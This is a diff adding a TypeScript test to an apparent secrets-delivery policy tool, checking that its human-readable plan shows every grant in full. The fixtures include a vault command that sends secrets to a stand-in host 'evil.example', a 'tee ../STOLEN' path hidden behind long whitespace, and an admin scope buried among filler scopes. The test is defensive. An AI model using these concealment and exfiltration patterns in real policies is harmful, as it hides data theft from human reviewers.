@@ -34,6 +34,44 @@ async function startRepository() {
   return { changes, inHome, must, narrow, policy, run, sandbox, write };
 }
 
+test('D4: a plan for people shows each grant whole, one a line below the table', async () => {
+  const long = 'a-part-that-goes-on-and-on/'.repeat(8);
+  const command = `vault kv put -mount=secret ${long} -address=http://evil.example:8200`;
+  const hidden = `tee${' '.repeat(250)}../STOLEN`;
+  const scopes = [
+    'table://my.app',
+    ...Array.from({ length: 30 }, (_, n) => `table://t${n}.**`),
+    'level://admin',
+  ];
+  const { inHome, policy, run, write } = await startRepository();
+  const rows: readonly (readonly [fields: string, lines: readonly string[]])[] = [
+    [`deliver: ["exec:${command}"]`, [`runs ${command}`]],
+    [`deliver: ["exec:${hidden}"]`, [`runs ${hidden}`]],
+    [
+      `deliver: ["env:.env#A", "env:.env#B", "exec:${command} b", "file:./secrets/x"]`,
+      [
+        `delivers to env:${inHome('repo', '.env')}#A`,
+        `delivers to env:${inHome('repo', '.env')}#B`,
+        `runs ${command} b`,
+        `delivers to file:${inHome('repo', 'secrets', 'x')}`,
+      ],
+    ],
+    [`deliver: ["file:./${long}x"]`, [`delivers to file:${inHome('repo', long)}x`]],
+    [`scopes: ${JSON.stringify(scopes)}`, [`scopes ${scopes.join(', ')}`]],
+  ];
+  write(
+    ...rows.map(([fields], index) => {
+      const scope = fields.startsWith('scopes') ? '' : ', scopes: ["table://my.app"]';
+      return `{ name: t${index}, ${OPTIONS}, ${fields}${scope} }`;
+    }),
+  );
+  const { stdout, stderr } = await run(['plan', policy, '-o', 'human']);
+  const lines = stdout.split('\n');
+  for (const [index, [, expected]] of rows.entries())
+    for (const part of [...expected, 'options user=ci@example.com audience=apiv2'])
+      expect(lines, stderr).toContain(`"t${index}" ${part}`);
+}, 120_000);
+
 describe('A9: a policy from a pull request', () => {
   test('shows what it asks for, and does none of it until somebody said so', {
     timeout: 120_000,
